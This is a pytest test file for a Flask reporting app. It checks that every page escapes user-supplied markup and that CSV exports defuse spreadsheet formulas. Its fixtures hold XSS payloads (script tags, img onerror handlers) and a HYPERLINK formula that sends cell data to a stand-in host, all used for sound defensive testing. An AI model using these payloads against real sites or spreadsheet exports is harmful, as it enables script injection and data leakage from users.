"""No user text is rendered unescaped: every free-text field of every step, a photo's name and caption, a
user's name and the follow-ups carry markup, and every page each role can reach by following links is
read for it. The payloads must show up escaped somewhere (so a page that hides them cannot pass)."""
import csv
import io
import re
from urllib.parse import urljoin, urlsplit

import pytest

from app.extensions import db
from app.models import User
from app.services import queries, users
from tests import helpers
from tests.helpers import Api, image_bytes, web_login


def payload(field):
    return f'<script>alert("{field}")</script><img src=x onerror="window.__xss=\'{field}\'">{field}'


# what must never appear in a page as it was typed; and the escaped form that proves the text was shown
RAW = re.compile(r'<script>alert\(|<img src=x onerror=')
ESCAPED = '&lt;script&gt;alert('

REPORT_TEXT = ('judul', 'apa', 'siapa', 'alamat', 'mengapa', 'bagaimana', 'sumber_detail', 'identitas_narasumber',
               'keterangan_foto')
SKIP = re.compile(r'/logout|/vendor/|/static/|\.csv|\.bpmn|/lampiran/|/dokumen/\d+$|unduh=1|/api/')
MAX_PAGES = 80
ARTIFACTS = helpers.ROOT / 'test-artifacts'


def hostile(data, *fields):
    return data | {field: payload(field) for field in fields}


@pytest.fixture
def hostile_reports(app, client):
    """One report through every step with markup in each text; one returned to its agent with a marked note."""
    agent, verifier, admin, leader = (Api(client, u) for u in ('agen1', 'verifikator1', 'administrator1',
                                                              'pimpinan1'))
    report = hostile(helpers.REPORT, *REPORT_TEXT)
    photo = payload('nama_berkas').replace('/', '_') + '.jpg'   # a name may not hold a slash
    instance = agent.start()
    data = dict(report, foto=(io.BytesIO(image_bytes()), photo))
    assert agent.post(f'/tasks/{instance["tasks"][0]["id"]}/complete', data=data).status_code == 200
    full = instance['id']
    assert verifier.complete_only_task(full, hostile(helpers.VERIFY_YES, 'catatan')).status_code == 200
    assert admin.complete_only_task(full, hostile(helpers.PUBLISH, 'ringkasan_situasi', 'analisis', 'opsi_kebijakan',
                                                  'rekomendasi', 'instansi_pelaksana', 'jangka_waktu',
                                                  'distribusi')).status_code == 200
    assert leader.complete_only_task(full, hostile(helpers.DECIDE_YES, 'arahan')).status_code == 200
    assert admin.create_letter(full, hostile(helpers.INVITATION, 'hal', 'kepada', 'tempat', 'acara')
                               ).status_code == 201
    notulen = {k: v for k, v in helpers.RAKOR.items() if not k.startswith('rencana')} | {
        'rencana_tindak_lanjut': [{'tindakan': payload('tindakan'), 'penanggung_jawab': payload('penanggung_jawab'),
                                   'batas_waktu': helpers.DEADLINE.isoformat()}]}
    assert admin.complete_only_task(full, hostile(notulen, 'pembahasan', 'kesimpulan')).status_code == 200
    returned = agent.file_report(report)['id']
    assert verifier.complete_only_task(returned, hostile(helpers.VERIFY_RETURN, 'catatan')).status_code == 200
    with app.app_context():
        user_id = queries.report_by_instance(full).reporter_id
        user = db.session.get(User, user_id)
        real_name = user.full_name
        user.full_name = payload('nama_pengguna')
        db.session.commit()
    yield full, returned
    with app.app_context():
        db.session.get(User, user_id).full_name = real_name
        db.session.commit()


def crawl(client, start):
    """Every same-site HTML page reachable from `start` by links (GET only): {path: html}."""
    seen, queue = {}, [start]
    while queue and len(seen) < MAX_PAGES:
        path = queue.pop(0)
        if path in seen or SKIP.search(path):
            continue
        response = client.get(path)
        if response.status_code in (301, 302, 303) and not urlsplit(response.headers['Location']).netloc:
            queue.append(response.headers['Location'])
        if response.status_code != 200 or response.mimetype != 'text/html':
            seen[path] = ''
            continue
        html = response.get_data(as_text=True)
        seen[path] = html
        for link in re.findall(r'href="([^"#]+)"', html):
            target = urljoin(path, link.replace('&amp;', '&'))
            parts = urlsplit(target)
            if not parts.netloc:
                queue.append(parts.path + (f'?{parts.query}' if parts.query else ''))
    return seen


@pytest.mark.parametrize('username, must_show', [
    ('agen1', ['/laporan-saya', '/laporan/{full}', '/laporan/{returned}', '/notifikasi']),
    ('verifikator1', ['/laporan', '/laporan/{full}', '/laporan/{full}/riwayat']),
    ('administrator1', ['/dasbor', '/tindak-lanjut', '/laporan/{full}']),
    ('pimpinan1', ['/dasbor', '/laporan/{full}', '/tindak-lanjut']),
    ('auditor1', ['/laporan', '/laporan/{full}/riwayat']),
    ('superadmin1', ['/admin/pengguna', '/laporan/{full}']),
])
def test_markup_in_user_text_is_escaped_on_every_page(app, hostile_reports, username, must_show):
    full, returned = hostile_reports
    client = app.test_client()
    web_login(client, username)
    pages = crawl(client, '/')
    for path in must_show:                      # the crawl reaches the pages that show the texts
        pages.setdefault(path.format(full=full, returned=returned), '')
    for path in [p for p, html in pages.items() if not html]:
        response = client.get(path)
        pages[path] = response.get_data(as_text=True) if response.mimetype == 'text/html' else ''
    unescaped = {path: RAW.findall(html) for path, html in pages.items() if RAW.search(html)}
    assert not unescaped, f'{username}: user text rendered as markup on {sorted(unescaped)}'
    showing = {path for path, html in pages.items() if ESCAPED in html}
    expected = {path.format(full=full, returned=returned) for path in must_show}
    assert expected <= showing, f'{username}: the texts are not shown on {sorted(expected - showing)}'
    assert len(pages) >= len(expected) + 2
    ARTIFACTS.mkdir(exist_ok=True)  # which pages were read, for review
    (ARTIFACTS / f'xss-pages-{username}.txt').write_text('\n'.join(sorted(pages)) + '\n')


def test_the_letter_and_notulen_pages_and_the_admin_pages_escape_too(app, hostile_reports):
    full, _ = hostile_reports
    admin = app.test_client()
    web_login(admin, 'superadmin1')
    with app.app_context():
        reporter_id = queries.report_by_instance(full).reporter_id
    page = admin.get(f'/admin/pengguna/{reporter_id}').get_data(as_text=True)
    assert ESCAPED in page and not RAW.search(page)


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(app, client):
    verifier = Api(client, 'verifikator1')
    instance_id = Api(client, 'agen1').file_report()['id']
    assert verifier.complete_only_task(instance_id, helpers.VERIFY_YES).status_code == 200
    formula = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
    with app.app_context():
        user = users.find_user('verifikator1')
        real_name, user.full_name = user.full_name, formula
        db.session.commit()
    try:
        auditor = app.test_client()
        web_login(auditor, 'auditor1')
        today = helpers.wita_today().isoformat()
        exported = auditor.get(f'/kepatuhan/ekspor.csv?dari={today}&sampai={today}').get_data(as_text=True)
        [person] = [row for row in csv.DictReader(io.StringIO(exported)) if 'HYPERLINK' in row['nama']]
        assert person['nama'] == "'" + formula
    finally:
        with app.app_context():
            users.find_user('verifikator1').full_name = real_name
            db.session.commit()
